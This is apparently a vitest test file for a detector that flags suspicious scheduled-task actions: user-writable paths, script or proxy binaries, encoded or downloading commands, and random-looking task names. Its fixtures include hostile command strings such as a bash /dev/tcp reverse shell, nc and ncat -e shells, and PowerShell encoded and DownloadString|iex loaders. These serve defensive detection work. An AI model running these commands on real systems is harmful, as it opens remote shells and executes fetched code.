import { expect, test } from 'vitest';
import {
  encodedOrDownloads,
  inUserWritablePath,
  looksRandom,
  usesScriptOrProxyBinary,
} from '../../src/t1053/action-traits.ts';

test.each([
  ['C:\\Users\\Public\\od.exe', '\\Users\\Public'],
  ['"C:/Users/Public/od.exe"', '/Users/Public'],
  ['C:\\USERS\\PUBLIC', '\\USERS\\PUBLIC'],
  ['c:\\temp\\x.exe', '\\temp'],
  ['C:\\Users\\u\\AppData\\Local\\x.exe', '\\AppData'],
  ['C:\\Windows\\Temp\\a.dll', '\\Temp'],
  ['C:\\ProgramData\\t.exe', '\\ProgramData'],
  ['C:\\Perflogs\\t.exe', '\\Perflogs'],
  ['C:\\$Recycle.Bin\\t.exe', '\\$Recycle.Bin'],
  ['%APPDATA%\\x.exe', '%APPDATA%'],
  ['$env:TEMP\\x.ps1', '$env:TEMP'],
  ['/tmp/x', '/tmp'],
  ['/var/tmp/x', '/var/tmp'],
  ['/dev/shm/x', '/dev/shm'],
  ['/home/u/.cache/x', '/.cache'],
  ['/home/u/.my cache/x', '/.my cache'],
])('%j lies where users may write', (action, found) => {
  expect(inUserWritablePath(action)).toBe(found);
});

test.each([
  'C:\\Users\\PublicStuff\\x.exe',
  'C:\\Users\\Public Documents\\x.exe',
  'C:\\Program Files\\Temp Tools\\x.exe',
  '/home/u/.profile',
  '/usr/../bin/x',
  'C:\\Users\\alice\\x.exe',
  'C:\\Templates\\x.exe',
  'C:\\Attempt\\x.exe',
  'C:\\Program Files\\AppDataTool\\x.exe',
  '/opt/tmp/x',
  '/tmpfiles/x',
  '/usr/bin/x ../y',
  '%TEMPLATE%\\x',
  '',
])('%j does not', (action) => {
  expect(inUserWritablePath(action)).toBeUndefined();
});

test.each([
  ['powershell.exe -nop', 'powershell.exe'],
  ['"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -c x', 'pwsh.exe'],
  ['\uff50owershell -nop', 'powershell'],
  ['mshta.exe https://host/a.txt', 'mshta.exe'],
  ['cmd /c start /min rundll32 a.dll,Run', 'rundll32'],
  ['cmd.exe /c del x', 'cmd.exe /c'],
  ['"C:\\Windows\\system32\\cmd.exe" /d /s /C dir', 'cmd.exe" /d /s /C'],
  ['%ComSpec% /c x', '%ComSpec% /c'],
  ['cmd/v:on/c x', 'cmd/v:on/c'],
  ['regsvr32 /s a.dll', 'regsvr32'],
  ['certutil -urlcache', 'certutil'],
  ['x&curl http://a', 'curl'],
  ['/bin/bash -lc "id"', 'bash -lc'],
  ['sh -e -c id', 'sh -e -c'],
  ['python3.11 -c "import os"', 'python3.11 -c'],
  ['echo a | base64 -d', 'base64'],
])('%j runs %j', (action, found) => {
  expect(usesScriptOrProxyBinary(action)).toBe(found);
});

test.each([
  'C:\\tools\\curling.exe',
  'C:\\tools\\mycurl.exe',
  'C:\\tools\\curl.txt',
  'C:\\curl\\app.exe',
  'C:\\tools\\libcurl-4.exe',
  'C:\\tools\\cmdkey.exe /c',
  'cmd.exe',
  'python script.py',
  'bash script.sh',
  'crash -c x',
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\x.exe',
])('%j runs none', (action) => {
  expect(usesScriptOrProxyBinary(action)).toBeUndefined();
});

test.each([
  ['powershell -nop -w hidden -enc SQBFAFgA', '-enc'],
  ['powershell /EncodedCommand SQBFAFgA', '/EncodedCommand'],
  ['powershell "-enc" SQBFAFgA', '-enc'],
  ['powershell -encod SQBFAFgA', '-encod'],
  ['powershell -e SQBFAFgA', '-e'],
  ['powershell \u2013ec "SQBFAFgA"', '\u2013ec'],
  ['pwsh -c [Convert]::FromBase64String($a)', 'FromBase64String'],
  ['(New-Object Net.WebClient).DownloadString($u)|iex', 'DownloadString'],
  ['gc a.txt | IEX', 'IEX'],
  ['mshta https://host/a', 'https://'],
  ['bash -i >& /dev/tcp/10.0.0.5/4444', '/dev/tcp/'],
  ['nc 10.0.0.5 4444 -e /bin/sh', 'nc 10.0.0.5 4444 -e'],
  ['ncat.exe -nve cmd 10.0.0.5', 'ncat.exe -nve'],
])('%j carries or loads %j', (action, found) => {
  expect(encodedOrDownloads(action)).toBe(found);
});

test.each([
  'notify.exe -e SQBFAFgA',
  'powershell -ExecutionPolicy Bypass -File a.ps1',
  'powershell -e short',
  'powershell gc a.txt -Encoding utf8',
  'ffmpeg -encoder x',
  'C:\\iex\\app.exe',
  'C:\\tools\\iexplore.exe',
  'sync -e x',
  'nc 10.0.0.5 4444',
  'app --enc x',
  'http:// x',
])('%j does neither', (action) => {
  expect(encodedOrDownloads(action)).toBeUndefined();
});

test.each([
  ['\\eyNQLDvUSuvVPg', 'entropy of 3.66 bits'],
  ['\\Corp\\xkqzrtabe', 'entropy of 3.17 bits'],
  ['\\a1b22c3defg', 'entropy of 3.28 bits'],
  ['\\{0E6C0EEB-1A5B-4D09-A2C2-AF66A4B6E7A1}', 'GUID'],
  ['0e6c0eeb-1a5b-4d09-a2c2-af66a4b6e7a1', 'GUID'],
])('the name %j looks random: %s', (name, why) => {
  expect(looksRandom(name)).toBe(why);
});

test.each([
  '\\xkqzrtab',
  '\\abcdefghi',
  '\\Schedule Work',
  '\\DataUsageHandlers',
  '\\eyNQLDvUSuvVPg\\Updater',
  '\\aaaaaaaaaaaa',
  '\\',
  '',
])('the name %j does not', (name) => {
  expect(looksRandom(name)).toBeUndefined();
});
